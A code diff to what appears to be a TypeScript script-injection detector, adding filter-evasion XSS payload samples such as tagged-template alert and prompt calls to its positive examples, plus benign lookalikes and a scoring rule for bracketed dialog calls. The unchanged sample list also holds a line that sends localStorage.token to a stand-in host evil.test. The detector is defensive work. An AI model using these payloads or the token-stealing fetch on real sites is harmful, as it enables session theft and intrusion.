@@ -38,6 +38,9 @@ export const scriptCall: ValueRule = {
     '[7].map(prompt)',
     'setTimeout("go()",5)',
     "Reflect.get(window,'alert')(1)",
+    'Array.prototype.sort.call`${alert}1337`',
+    'Function`$${`${alert}(1)`}```',
+    '(prompt())',
     "fetch('//evil.test/'+localStorage.token)",
   ],
   lookalikes: [
@@ -49,6 +52,8 @@ export const scriptCall: ValueRule = {
     'options?.onChange?.(event?.target?.value)',
     'setTimeout(() => setCount(count + 1), 1000)',
     'alert(1) meaning',
+    'const Button = styled.button`color: ${(p) => p.color};`',
+    '(prompt)',
     'alert(1) does not show - why?',
     'https://example.com/search?q=alert(1)+does+not+show&page=2',
     "if (confirm('Delete this item?')) { remove(item) }",
@@ -97,6 +102,7 @@ function scoreOf(pieces: ScriptPieces, evidence: ScriptEvidence): number {
   if (evidence.strength === 4) return prose ? confidence.strong : confidence.certain;
   if (evidence.strength === 3) return prose ? confidence.hint : confidence.strong;
   if (evidence.strength === 2 && isLoneAlert(pieces.tokens, evidence)) return confidence.likely;
+  if (evidence.strength === 2 && isBracketed(pieces.tokens, evidence)) return confidence.likely;
   if (prose) return confidence.trace;
   return isWholeText(pieces.tokens, evidence) ? confidence.hint : confidence.trace;
 }
@@ -157,6 +163,14 @@ function isLoneAlert(tokens: ScriptTokens, { first, last }: ScriptEvidence): boo
   const isBare = first === 0 || (first === 2 && wordAt(tokens, 0) === 'window');
   return isBare && isQuote(kindAt(tokens, first + 2));
 }
+
+/** `(prompt())`, and nothing else. */
+function isBracketed(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  if (first !== 1 || tokens.count !== last + 1 || kindAt(tokens, 0) !== mark.open) return false;
+  return dialogs.has(wordAt(tokens, first)) && kindAt(tokens, last) === mark.close;
+}
+
+const dialogs: ReadonlySet<string> = new Set(['alert', 'confirm', 'prompt']);
 
 /** The piece is all that the text holds, but for punctuation. */
 function isWholeText(tokens: ScriptTokens, evidence: ScriptEvidence): boolean {
